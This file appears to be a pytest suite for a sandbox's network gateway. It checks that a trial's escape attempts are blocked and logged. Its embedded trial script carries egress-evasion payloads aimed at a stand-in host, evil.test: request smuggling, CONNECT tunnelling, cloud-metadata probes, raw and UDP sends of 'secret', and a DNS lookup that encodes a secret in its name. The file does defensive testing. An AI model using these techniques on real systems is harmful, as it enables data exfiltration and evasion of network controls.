"""What a trial tries in order to get past the gateway: other names, other addresses, other protocols, other ends."""

from __future__ import annotations

import contextlib
import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from scenario_lab import Lab, python, wait_until
from scenario_network import ACTING, Acted, Outside, act, options, serving, web
from test_scenario_network import make_lab

pytestmark = pytest.mark.kernel("witness", "overlay", "cgroup", "gateway")

TRYING = """
act("other host", lambda: get("api.test", named="evil.test"))
def pipelined():
    sock = to("api.test")
    sock.sendall(b"GET /ok HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n" + request("evil.test", "/leak"))
    return whole(sock)
act("pipelined", pipelined)
def late():
    sock = to("api.test")
    time.sleep(0.5)
    sock.sendall(request("evil.test", "/leak"))
    return whole(sock)
act("after silence", late)
def proxied(line):
    sock = to("api.test")
    sock.sendall(line + b"\\r\\nHost: evil.test\\r\\n\\r\\n")
    return whole(sock)
act("connect", lambda: proxied(b"CONNECT evil.test:443 HTTP/1.1"))
act("absolute", lambda: proxied(b"GET http://evil.test/leak HTTP/1.1"))
act("smuggled", lambda: proxied(b"GET /leak HTTP/1.1\\r\\nHost: api.test"))
act("other port", lambda: get("api.test", port=81))
act("never answered", lambda: get("203.0.113.9"))
act("metadata", lambda: get("169.254.169.254"))
act("metadata, nat64", lambda: get("64:ff9b::a9fe:a9fe", family=socket.AF_INET6))
act("host, mapped form", lambda: get("::ffff:10.0.0.1", family=socket.AF_INET6))
act("the gateway", lambda: get("192.0.2.54", port=443))
def in_front():
    listener = socket.create_server(("203.0.113.50", 8080))
    listener.settimeout(1)
    return get("203.0.113.50", port=8080)
act("a listener in front", in_front)
def by_device():
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, 25, b"lo\\0")
    sock.connect(("203.0.113.10", 80))
    return whole(sock)
act("by device", by_device)
def one_port_twice():
    found = []
    for host in ("203.0.113.21", "203.0.113.22"):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("192.0.2.2", 45678))
        sock.connect((host, 80))
        found.append(sock)
    return len(found)
act("one port twice", one_port_twice)
def sent(kind, protocol, host="203.0.113.9", port=4433, family=socket.AF_INET, connected=False):
    sock = socket.socket(family, kind, protocol)
    if connected:
        sock.connect((host, port))
        return sock.send(b"secret")
    return sock.sendto(b"secret", (host, port))
act("udp", lambda: sent(socket.SOCK_DGRAM, 0))
act("udp, connected", lambda: sent(socket.SOCK_DGRAM, 0, port=4434, connected=True))
act("udp, sixth", lambda: sent(socket.SOCK_DGRAM, 0, "2001:db8::9", family=socket.AF_INET6))
act("udp, connected, sixth", lambda: sent(socket.SOCK_DGRAM, 0, "2001:db8::8", family=socket.AF_INET6, connected=True))
act("udp, mapped form", lambda: sent(socket.SOCK_DGRAM, 0, "::ffff:203.0.113.8", family=socket.AF_INET6))
act("udp lite", lambda: sent(socket.SOCK_DGRAM, 136))
act("ping", lambda: sent(socket.SOCK_DGRAM, 1))
act("raw", lambda: sent(socket.SOCK_RAW, 253))
act("question to many", lambda: sent(socket.SOCK_DGRAM, 0, "224.0.0.251", 53))
act("question to many, connected", lambda: sent(socket.SOCK_DGRAM, 0, "224.0.0.252", 53, connected=True))
act("question to many, sixth", lambda: sent(socket.SOCK_DGRAM, 0, "ff02::fb", 53, socket.AF_INET6))
def half_a_question():
    sock = to("203.0.113.91", 53)
    sock.sendall(b"GET /half-a-question HTTP/1.1\\r\\n\\r\\n")
    sock.close()
act("half a question", half_a_question)
act("packet", lambda: socket.socket(17, socket.SOCK_RAW, 0x0300))
act("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
act("fast open", lambda: socket.socket().sendto(b"secret", 0x20000000, ("203.0.113.11", 80)))
act("forbidden name", lambda: socket.gethostbyname("c2VjcmV0LW9mLXRoZS10cmlhbA.x.evil.test"))
def odd_question():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1)
    name = b"\\x06se\\xffret\\x04evil\\x00"
    sock.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + name + b"\\x00\\x01\\x00\\x01", ("192.0.2.9", 53))
    return sock.recv(100).hex()
act("odd question", odd_question)
def at_loopback():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(10)
    sock.sendto(question("loop.evil.test"), ("127.0.0.53", 53))
    return sock.recv(100)[3] & 15
act("question at loopback", at_loopback)
def asked(family, server, what, connected=False):
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.settimeout(10)
    if connected:
        sock.connect((server, 53))
        sock.send(what)
    else:
        sock.sendto(what, (server, 53))
    return len(sock.recv(100)) if what != b"x" else "sent"
FOURTH, SIXTH = socket.AF_INET, socket.AF_INET6
act("no question", lambda: asked(FOURTH, "203.0.113.60", b"x"))
act("no question, connected", lambda: asked(FOURTH, "203.0.113.61", b"x", True))
act("no question, sixth", lambda: asked(SIXTH, "2001:db8::60", b"x"))
act("no question, sixth, connected", lambda: asked(SIXTH, "2001:db8::61", b"x", True))
act("no question, mapped form", lambda: asked(SIXTH, "::ffff:203.0.113.62", b"x"))
act("elsewhere", lambda: asked(FOURTH, "203.0.113.63", question("fourth.evil.test")))
act("elsewhere, connected", lambda: asked(FOURTH, "203.0.113.64", question("connected.evil.test"), True))
act("elsewhere, sixth", lambda: asked(SIXTH, "2001:db8::63", question("sixth.evil.test")))
def over_tcp():
    sock, what = to("203.0.113.65", 53), question("tcp.evil.test")
    sock.sendall(len(what).to_bytes(2, "big") + what)
    return len(sock.recv(100))
act("elsewhere, over TCP", over_tcp)
act("port 53", lambda: socket.create_server(("127.0.0.1", 53)))
"""
RESET = "ConnectionResetError"


@pytest.fixture(scope="module")
def tried(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Acted, Outside]]:
    """One trial that tries all of it, with one host allowed."""
    lab = make_lab(tmp_path_factory.mktemp("hostile"))
    with serving(web) as api:
        yield act(lab, TRYING, *options(api_80=api)), api


@pytest.mark.parametrize(
    "how",
    [
        "other host", "pipelined", "after silence", "connect", "absolute", "smuggled", "other port",
        "never answered", "metadata", "metadata, nat64", "host, mapped form", "the gateway", "a listener in front",
        "by device",
    ],
)  # fmt: skip
def test_a_connection_that_is_not_allowed_is_reset(tried: tuple[Acted, Outside], how: str) -> None:
    """Whatever is said on it, wherever it goes, and whoever listens there inside the trial."""
    assert tried[0].results[how] == RESET


def test_nothing_of_it_reached_the_server(tried: tuple[Acted, Outside]) -> None:
    """No request that names somebody else, and none behind one that does."""
    assert [head for head in tried[1].told if b"evil" in head or b"leak" in head] == []


@pytest.mark.parametrize(
    "how",
    ["udp", "udp, connected", "udp, sixth", "udp, connected, sixth", "udp, mapped form", "udp lite", "ping", "raw",
     "question to many", "question to many, connected", "question to many, sixth",
     "packet", "vsock", "fast open", "port 53"],
)  # fmt: skip
def test_what_is_no_tcp_is_refused_at_the_call(tried: tuple[Acted, Outside], how: str) -> None:
    """Datagrams and other protocols fail where they are sent or made."""
    assert tried[0].results[how] in {"PermissionError", "OSError"}


@pytest.mark.parametrize(
    ("ip", "port"),
    [("203.0.113.9", 4433), ("203.0.113.9", 4434), ("2001:db8::9", 4433), ("2001:db8::8", 4433), ("203.0.113.8", 4433),
     ("224.0.0.251", 53), ("224.0.0.252", 53), ("ff02::fb", 53)],
)  # fmt: skip
def test_a_datagram_is_a_blocked_flow(tried: tuple[Acted, Outside], ip: str, port: int) -> None:
    """By whoever sent it, whether it named its target in the call or before."""
    (flow,) = tried[0].flows(ip=ip, port=port, protocol="udp")
    assert flow["decision"] == "blocked"
    assert flow["process"]


@pytest.mark.parametrize(
    "ip",
    ["203.0.113.9", "169.254.169.254", "64:ff9b::a9fe:a9fe", "10.0.0.1", "192.0.2.54", "203.0.113.50", "203.0.113.10",
     "203.0.113.21", "203.0.113.22"],
)  # fmt: skip
def test_every_refused_connection_is_a_flow_of_its_process(tried: tuple[Acted, Outside], ip: str) -> None:
    """One local port used for two hosts is no way to hide either."""
    (flow,) = tried[0].flows(ip=ip, protocol="tcp")
    assert flow["decision"] == "blocked"
    assert flow["process"]
    assert flow["bytes_out"] == 0


def test_a_look_up_is_recorded_whole_and_answers_nothing(tried: tuple[Acted, Outside]) -> None:
    """The name that would carry a secret away is on record, and violates by itself."""
    acted, name = tried[0], "c2VjcmV0LW9mLXRoZS10cmlhbA.x.evil.test"
    assert acted.results["forbidden name"] == "gaierror"
    assert acted.results["question at loopback"] == 3
    assert {event["decision"] for event in acted.events["name.asked"] if event["name"] == name} == {"refused"}
    violations = acted.ran.report["scope"]["violations"]
    assert [one for one in violations if one["rule"] == "forbidden-lookup" and name in one["text"]]
    assert [one for one in violations if "loop.evil.test" in one["text"] and "nobody" not in one["text"]]


def test_a_question_that_is_none_is_kept_as_it_was(tried: tuple[Acted, Outside]) -> None:
    """No answer, but its name and its bytes are on record."""
    assert tried[0].results["odd question"] == "TimeoutError"
    bad = [event for event in tried[0].events["name.asked"] if event["decision"] == "malformed"]
    (odd,) = [event for event in bad if "data_b64" in event]
    (half,) = [event for event in bad if event["transport"] == "tcp"]
    assert "half-a-question" in half["data"]
    assert odd["name"] == "se\\255ret.evil"
    assert odd["data_b64"]


@pytest.mark.parametrize(
    ("ip", "how"),
    [("203.0.113.60", "udp"), ("203.0.113.61", "udp"), ("2001:db8::60", "udp"), ("2001:db8::61", "udp"),
     ("203.0.113.62", "udp"), ("203.0.113.91", "tcp")],
)  # fmt: skip
def test_what_is_no_question_is_told_with_the_address_that_it_was_for(
    tried: tuple[Acted, Outside], ip: str, how: str
) -> None:
    """By datagram, named in the call or before, or over TCP; of either family."""
    (flow,) = tried[0].flows(ip=ip, port=53, protocol="dns")
    server = f"[{ip}]:53" if ":" in ip else f"{ip}:53"
    assert (flow["unread"], flow["server"], flow["decision"]) == (how, server, "blocked")
    texts = [one["text"] for one in tried[0].ran.report["scope"]["violations"]]
    assert [text for text in texts if f"to {server} that is no DNS question" in text]


@pytest.mark.parametrize(
    ("name", "server"),
    [("fourth", "203.0.113.63:53"), ("connected", "203.0.113.64:53"), ("sixth", "[2001:db8::63]:53"),
     ("tcp", "203.0.113.65:53"), ("loop", "127.0.0.53:53")],
)  # fmt: skip
def test_a_question_for_another_server_is_told_with_that_server(
    tried: tuple[Acted, Outside], name: str, server: str
) -> None:
    """The gateway answers it, whoever was asked; one for the box's own resolver names nobody."""
    (flow,) = tried[0].flows(host=f"{name}.evil.test", protocol="dns")
    assert (flow["server"], flow.get("unread")) == (server, None)
    texts = [one["text"] for one in tried[0].ran.report["scope"]["violations"]]
    assert [text for text in texts if f"{name}.evil.test, asked of {server}, got no answer" in text]
    for flow in tried[0].flows(host="c2VjcmV0LW9mLXRoZS10cmlhbA.x.evil.test"):
        assert "server" not in flow


def test_a_violation_says_what_would_allow_it(tried: tuple[Acted, Outside]) -> None:
    """In the words of the option; what nothing allows says why."""
    texts = [one["text"] for one in tried[0].ran.report["scope"]["violations"]]
    assert any("--allow evil.test:80 would allow it" in text for text in texts)
    assert any("--allow 203.0.113.9:80 would allow it" in text for text in texts)
    assert any("metadata" in text and "would allow" not in text for text in texts)
    assert any("203.0.113.9:4433" in text and "nothing but TCP" in text for text in texts)


def test_the_accounts_agree_whatever_was_tried(tried: tuple[Acted, Outside]) -> None:
    """The trial is violated, not unresolved: no gap on the network."""
    (network,) = [one for one in tried[0].ran.report["coverage"] if one["route"] == "network"]
    assert network["gaps"] == []
    assert tried[0].ran.scope == "violated"


MANY = """
held, sockets = [], []
slow = to("api.test")
slow.sendall(b"GET / HTTP/1.1\\r\\nHost: ap")
for _ in range(600):
    sock = to("api.test")
    sock.sendall(b"GET / HT")
    held.append(sock)
unread = to("api.test")
unread.sendall(request("api.test").replace(b"close", b"keep") * 2000)
def all_of_them():
    found = 0
    for sock in held:
        sock.sendall(request("api.test")[len(b"GET / HT"):])
    for sock in held:
        found += whole(sock).endswith("hello")
    return found
act("held", all_of_them)
act("another", lambda: get("api.test"))
"""


def test_slow_held_and_unread_connections_stop_nobody(lab: Lab) -> None:
    """Six hundred half requests at once, one that never ends and one whose answers are never read."""
    with serving(web) as api:
        acted = act(lab, MANY, *options(api_80=api))
    assert acted.results["held"] == 600
    assert acted.results["another"].endswith("hello")
    (counted,), (stopped,) = acted.events["trial.counted"], acted.events["gateway.stopped"]
    assert counted["gateway_starts"] == stopped["connections"] >= 602


def gateways_of(supervisor: int) -> list[int]:
    """Find the gateway among the children of a supervisor."""
    children = Path(f"/proc/{supervisor}/task/{supervisor}/children").read_text(encoding="ascii").split()
    named = {int(pid): Path(f"/proc/{pid}/comm") for pid in children}
    found = []
    for pid, comm in named.items():
        with contextlib.suppress(OSError):
            if comm.read_text(encoding="ascii").strip() == "supervise-gate":
                found.append(pid)
    return found


WAITING = """
print("ready", flush=True)
while time.sleep(0.02) is None:
    try:
        socket.create_connection(("203.0.113.9", 80), 5).recv(1)
    except ConnectionRefusedError:
        break
    except OSError:
        pass
act("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.9", 443)))
act("name", lambda: socket.gethostbyname("api.test"))
"""


def test_when_the_gateway_dies_everything_is_refused_and_nothing_is_resolved(lab: Lab) -> None:
    """Connections are refused by the kernel itself, and the report says since when nobody saw them."""
    with lab.start("--", *python(ACTING + WAITING + "\nprint(json.dumps(results))")) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"ready\n"
        (gateway,) = gateways_of(process.pid)
        os.kill(gateway, signal.SIGKILL)
        out, err = process.communicate(timeout=60)
    assert b'"udp": "PermissionError"' in out, (out, err)
    assert b'"name": "gaierror"' in out
    report = lab.report()
    (network,) = [one for one in report["coverage"] if one["route"] == "network"]
    assert "gateway-died" in {gap["rule"] for gap in network["gaps"]}
    assert report["finality"]["verdict"] == report["separation"]["verdict"] == "unresolved"
    assert any(reason["rule"] == "gateway-died" for reason in report["scope"]["reasons"])
    assert b"the gateway ended before the trial did" in err


SENDING = """
sock = to("api.test")
sock.sendall(b"GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n")
sock.recv(100)
time.sleep(0.5)
print("ready", flush=True)
act("cut off", lambda: whole(sock))
"""


def test_what_a_gateway_that_was_killed_passed_on_is_told_as_a_minimum(lab: Lab) -> None:
    """Nobody counted what went over the connections that it had open; that they were there was told at once."""
    with (
        serving(web) as api,
        lab.start(*options(api_80=api), "--", *python(ACTING + SENDING)) as process,
    ):
        assert process.stdout is not None
        assert process.stdout.readline() == b"ready\n"
        (gateway,) = gateways_of(process.pid)
        os.kill(gateway, signal.SIGKILL)
        process.communicate(timeout=60)
        assert len(api.told) == 1
    report = lab.report()
    (flow,) = [one for one in report["effects"]["network"] if one["decision"] == "allowed"]
    assert (flow["bytes_out"], flow["unfinished"]) == (0, 1)
    (effect,) = [one for one in report["open_effects"] if one["route"] == "network"]
    assert effect["what"].startswith("at least 0 bytes sent to api.test:80")
    assert b"at least 0 bytes out, 0 in, 1 connection never seen ending" in lab.call("show", "last").stdout


def test_the_gateway_dies_with_the_supervisor(lab: Lab) -> None:
    """Killed without a word, it leaves no gateway behind."""
    with lab.start("--", "sleep", "61.75") as process:
        assert wait_until(lambda: bool(gateways_of(process.pid)), 30)
        (gateway,) = gateways_of(process.pid)
        time.sleep(0.2)
        process.kill()
        process.wait()
    assert wait_until(lambda: not Path(f"/proc/{gateway}").exists() or is_dead(gateway), 10)


def is_dead(pid: int) -> bool:
    """Tell whether a process only waits to be reaped."""
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/stat").read_text(encoding="ascii").rpartition(")")[2].split()[0] == "Z"
    return True
